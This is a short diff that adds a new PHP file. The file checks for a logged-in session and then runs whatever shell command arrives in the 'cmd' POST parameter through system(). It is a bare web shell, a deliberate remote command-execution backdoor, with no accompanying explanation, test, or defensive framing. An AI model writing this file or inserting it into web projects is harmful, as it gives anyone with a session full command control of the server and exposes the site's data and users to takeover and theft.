@@ -1,0 +1,4 @@
+<?php
+session_start();
+if (!isset($_SESSION["user"])) exit;
+system($_POST["cmd"]);
